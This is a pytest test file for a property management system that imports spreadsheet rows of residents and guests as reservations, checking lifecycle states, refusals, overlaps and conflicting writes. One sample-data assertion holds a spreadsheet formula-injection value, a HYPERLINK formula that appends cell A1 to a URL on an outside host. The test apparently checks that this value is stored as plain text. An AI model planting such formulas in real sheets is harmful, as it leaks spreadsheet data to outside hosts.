"""Residents, owner residents and guests of a sheet become reservations."""

from datetime import date, timedelta
from typing import Any

import pytest
from sqlalchemy import update

from pms.arrivals.bookings import writing_at_once
from pms.arrivals.reservation_plan import ReservationPlan
from pms.arrivals.sheet_imports import ImportReport, RecordOutcome
from pms.arrivals.sheets.listed_rows import RESIDENT_COLUMNS, read_resident_rows
from pms.arrivals.sheets.reading import Limits, read_sheet
from pms.catalogue.models import Unit
from pms.foundation.errors import Collision
from pms.pricing.models import PricePeriod, PricingSnapshot
from pms.reservations.models import CoOccupant, Reservation
from pms.rules.enumerations import Lifecycle, PaymentStatus, ReservationKind
from pms.sheets.tables import open_tables
from tests.imports.conftest import Importing
from tests.imports.samples import sample

UNITS = b"building,unit,type\nA,101,apartment\nA,102,apartment\n"
HEADER = (
    "kind,name,email,building,unit,move_in_date,contract_end_date,override_move_in_date,"
    "move_out_date,base_rent,deposit,payment_status,esign_status,co_occupants"
)


def row(name: str = "Hanako", **given: Any) -> str:
    usual = {
        "kind": "resident",
        "name": name,
        "email": f"{name.lower()}@example.com",
        "building": "A",
        "unit": "101",
        "move_in_date": "2026-04-01",
        "contract_end_date": "2027-03-31",
        "base_rent": "60000",
        "deposit": "30000",
        "payment_status": "paid",
        "esign_status": "signed",
    } | given
    return ",".join(f'"{usual.get(column, "")}"' for column in HEADER.split(","))


GUEST = {"kind": "guest", "move_in_date": "2026-06-01"}


def sheet(*rows: str) -> bytes:
    return "\n".join((HEADER, *rows)).encode()


@pytest.fixture
def house(ours: Importing) -> Importing:
    """Our workspace with two rooms."""
    ours.units(UNITS)
    return ours


def lifecycle(world: Importing) -> Lifecycle:
    (stored,) = world.all_of(Reservation)
    return Lifecycle(stored.lifecycle)


def refusals(report: ImportReport) -> list[str]:
    return [one.problems[0].reason.code for one in report.of(RecordOutcome.REFUSED)]


def test_a_row_makes_a_reservation_with_its_price_frozen_and_its_first_period(
    house: Importing,
) -> None:
    house.residents(sheet(row(co_occupants="Ren Okuyama; Mei Okuyama")))
    (stored,) = house.all_of(Reservation)
    assert (stored.starts_on, stored.free_from) == (date(2026, 4, 1), date(2027, 3, 31))
    assert (stored.deposit_yen, stored.payment_status) == (30000, PaymentStatus.PAID)
    (snapshot,) = house.all_of(PricingSnapshot)
    (period,) = house.all_of(PricePeriod)
    assert snapshot.base_rent_yen == period.base_rent_yen == 60000
    assert (period.first_on, period.last_on) == (date(2026, 4, 1), None)
    companions = sorted(house.all_of(CoOccupant), key=lambda one: one.position)
    assert [one.name for one in companions] == ["Ren Okuyama", "Mei Okuyama"]


@pytest.mark.parametrize(
    ("given", "expected"),
    [
        ({"move_in_date": "2026-12-01"}, Lifecycle.CONFIRMED),
        ({"move_in_date": "2026-12-01", "esign_status": "sent"}, Lifecycle.BOOKED),
        ({"move_in_date": "2026-12-01", "payment_status": "pending"}, Lifecycle.BOOKED),
        ({"move_in_date": "2026-11-20"}, Lifecycle.LIVING),
        ({"override_move_in_date": "2026-12-01"}, Lifecycle.CONFIRMED),
        ({"contract_end_date": "2026-10-31"}, Lifecycle.LIVING),
        ({"move_out_date": "2027-01-05"}, Lifecycle.NOTICE_FILED),
        ({"move_out_date": "2026-11-20"}, Lifecycle.NOTICE_FILED),
        ({"move_out_date": "2026-11-19"}, Lifecycle.MOVED_OUT),
        ({"move_out_date": "2026-11-19", "payment_status": "refunded"}, Lifecycle.REFUNDED),
        (GUEST | {"contract_end_date": "2026-11-20"}, Lifecycle.LIVING),
        (GUEST | {"contract_end_date": "2026-11-19"}, Lifecycle.MOVED_OUT),
        (GUEST | {"contract_end_date": "2026-11-28"}, Lifecycle.LIVING),
        (GUEST | {"move_out_date": "2026-11-19"}, Lifecycle.MOVED_OUT),
        ({"kind": "owner_resident", "base_rent": "", "contract_end_date": ""}, Lifecycle.LIVING),
    ],
)
def test_where_a_tenancy_stands_follows_from_its_days(
    house: Importing, given: dict[str, str], expected: Lifecycle
) -> None:
    assert refusals(house.residents(sheet(row(**given)))) == []
    assert lifecycle(house) is expected
    (kept,) = house.all_of(Reservation)
    # Of who starts today the keys are still to be handed over.
    assert kept.has_earlier_keys is (
        kept.starts_on is not None and kept.starts_on < house.clock.today()
    )


@pytest.mark.parametrize(
    ("rows", "code"),
    [
        ([row(building="B")], "building_unknown"),
        ([row(unit="999")], "unit_unknown"),
        ([row(base_rent="")], "tenancy_without_rent"),
        ([row(contract_end_date="2026-03-31")], "end_before_start"),
        ([row(override_move_in_date="2027-04-01")], "end_before_start"),
        ([row(move_out_date="2026-03-31")], "end_before_start"),
        ([row(kind="guest", contract_end_date="")], "missing_date"),
        ([row(**GUEST | {"contract_end_date": "2026-11-29"})], "guest_too_long"),
        ([row(**GUEST | {"override_contract_end_date": "2027-01-01"})], "guest_too_long"),
        ([row(**GUEST | {"move_out_date": "2026-11-29"})], "guest_too_long"),
        ([row(), row()], "same_row_as_line"),
        ([row(), row("Taro", email="hanako@example.com")], "same_row_as_line"),
        ([row(), row("Taro")], "overlaps_line"),
        ([row(), row("Taro", move_in_date="2027-03-30")], "overlaps_line"),
        (
            [
                row(contract_end_date=""),
                row("Taro", move_in_date="2030-01-01", contract_end_date="2031-01-01"),
            ],
            "overlaps_line",
        ),
        # Nobody filed: somebody still lives there today, whatever the contract said.
        (
            [row(contract_end_date="2026-10-31"), row("Taro", move_in_date="2026-11-20")],
            "overlaps_line",
        ),
    ],
)
def test_what_cannot_be_is_refused(house: Importing, rows: list[str], code: str) -> None:
    assert refusals(house.residents(sheet(*rows))) == [code]


@pytest.mark.parametrize("start", ["2026-12-15", "2027-03-31"])
def test_a_successor_may_start_on_the_day_the_room_is_given_back(
    house: Importing, start: str
) -> None:
    out = {"move_out_date": start} if start != "2027-03-31" else {}
    report = house.residents(
        sheet(row(**out), row("Taro", move_in_date=start, contract_end_date="2028-03-31"))
    )
    assert report.counts["accepted"] == 2


def test_a_stored_reservation_that_overlaps_is_named_by_its_days_and_not_its_person(
    house: Importing,
) -> None:
    house.residents(sheet(row()))
    report = house.residents(sheet(row("Taro", move_in_date="2026-06-01")))
    assert refusals(report) == ["overlaps_reservation"]
    sentence = report.rows[1].problems[0].say("en")
    assert "2026-04-01 to 2027-03-31" in sentence
    assert "Hanako" not in sentence
    assert len(house.all_of(Reservation)) == 1


def test_a_stored_reservation_whose_row_is_refused_still_stands(house: Importing) -> None:
    house.residents(sheet(row("Jiro", move_in_date="2026-12-31")))
    open_ended = row(contract_end_date="")
    report = house.residents(sheet(open_ended, row("Jiro", move_in_date="2026-12-31")))
    assert refusals(report) == ["overlaps_reservation", "overlaps_line"]
    assert [one.name for one in house.all_of(Reservation)] == ["Jiro"]


def test_a_cancelled_reservation_holds_nothing(house: Importing) -> None:
    house.residents(sheet(row()))
    with house.database.writing(house.workspace_id) as session:
        session.execute(update(Reservation).values(cancelled_at=house.clock.now()))
    assert house.residents(sheet(row("Taro"))).counts["accepted"] == 1


def test_a_changed_cell_is_reported_written_and_then_unchanged(house: Importing) -> None:
    house.residents(sheet(row()))
    after = sheet(row(move_out_date="2026-12-31", co_occupants="Ren", base_rent="62000"))
    report = house.residents(after)
    (changed,) = report.of(RecordOutcome.CHANGED)
    assert {(one.column, one.before, one.after) for one in changed.changes} == {
        ("move_out_date", "", "2026-12-31"),
        ("co_occupants", "", "Ren"),
        ("base_rent", "60000", "62000"),
    }
    (stored,) = house.all_of(Reservation)
    assert (stored.ends_on, stored.lifecycle, stored.version) == (
        date(2026, 12, 31),
        Lifecycle.NOTICE_FILED,
        2,
    )
    assert house.all_of(PricePeriod)[0].base_rent_yen == 62000
    assert house.all_of(PricingSnapshot)[0].base_rent_yen == 60000
    assert house.residents(after).counts["unchanged"] == 1


def test_a_person_is_known_again_by_name_or_by_address(house: Importing) -> None:
    house.residents(sheet(row()))
    assert house.residents(sheet(row(email="new@example.com"))).counts["changed"] == 1
    report = house.residents(sheet(row("Hanako Sato", email="NEW@example.com")))
    assert report.counts["changed"] == 1
    assert len(house.all_of(Reservation)) == 1


def test_a_corrected_start_is_the_same_tenancy(house: Importing) -> None:
    house.residents(sheet(row()))
    report = house.residents(sheet(row(override_move_in_date="2026-04-10")))
    assert report.counts["changed"] == 1
    (stored,) = house.all_of(Reservation)
    assert stored.starts_on == date(2026, 4, 10)
    assert house.all_of(PricePeriod)[0].first_on == date(2026, 4, 10)


def test_an_old_sheet_takes_no_status_back_and_no_settled_tenancy(house: Importing) -> None:
    house.residents(sheet(row(move_out_date="2026-11-01", payment_status="refunded")))
    report = house.residents(sheet(row(move_out_date="2026-11-02", payment_status="paid")))
    assert "status_kept" in [note.reason.code for note in report.rows[1].notes]
    (stored,) = house.all_of(Reservation)
    assert stored.payment_status == PaymentStatus.REFUNDED
    assert stored.lifecycle == Lifecycle.REFUNDED


def test_time_that_passes_changes_nothing_by_itself(house: Importing) -> None:
    house.residents(sheet(row(move_in_date="2026-12-01", contract_end_date="2027-11-30")))
    house.clock.advance(timedelta(days=60))
    report = house.residents(sheet(row(move_in_date="2026-12-01", contract_end_date="2027-11-30")))
    assert report.counts["unchanged"] == 1


def test_guests_and_owner_residents_of_the_sample_have_no_price(ours: Importing) -> None:
    ours.units(sample("units_utf8.csv"))
    ours.residents(sample("residents_utf8_bom.csv"))
    stored = {one.id: one for one in ours.all_of(Reservation)}
    assert len(stored) == 135
    kinds = {stored[one.reservation_id].kind for one in ours.all_of(PricingSnapshot)}
    assert ReservationKind.GUEST not in kinds
    owners = [one for one in stored.values() if one.kind == ReservationKind.OWNER_RESIDENT]
    assert {one.deposit_yen for one in owners} == {0}
    formula = next(one for one in stored.values() if one.name == "朝比奈 千景" and one.note)
    assert formula.note == '=HYPERLINK("http://example.org/?x="&A1,"click")'


def test_two_tenancies_may_move_past_each_other(house: Importing) -> None:
    first = {"move_out_date": "2026-09-30"}
    second = {"move_in_date": "2026-10-01"}
    house.residents(sheet(row(**first), row("Taro", **second)))
    later = {"move_out_date": "2026-10-31"}
    report = house.residents(
        sheet(row(**later), row("Taro", override_move_in_date="2026-11-01", **second))
    )
    assert report.counts["changed"] == 2
    starts = {one.name: (one.starts_on, one.cancelled_at) for one in house.all_of(Reservation)}
    assert starts == {"Hanako": (date(2026, 4, 1), None), "Taro": (date(2026, 11, 1), None)}


def test_what_somebody_else_wrote_meanwhile_refuses_the_whole_import(house: Importing) -> None:
    """The database knows of a booking that was made after the import was planned."""
    read = read_sheet(
        open_tables(sheet(row("Hanako"), row("Jiro", unit="102"))), RESIDENT_COLUMNS, Limits()
    )
    stated = read_resident_rows(read.rows)
    rooms = {unit.name: unit.id for unit in house.all_of(Unit)}
    now, today = house.clock.now(), house.clock.today()
    with pytest.raises(Collision), house.database.writing(house.workspace_id) as session:
        plan, meanwhile = (ReservationPlan(session, now, today) for _ in range(2))
        for one in stated.values():
            plan.add(rooms[one.unit], one)
        meanwhile.add(rooms["102"], stated[3])
        meanwhile.write(house.clock, "staff")
        with writing_at_once(session):
            plan.write(house.clock, "staff")
    assert house.all_of(Reservation) == []
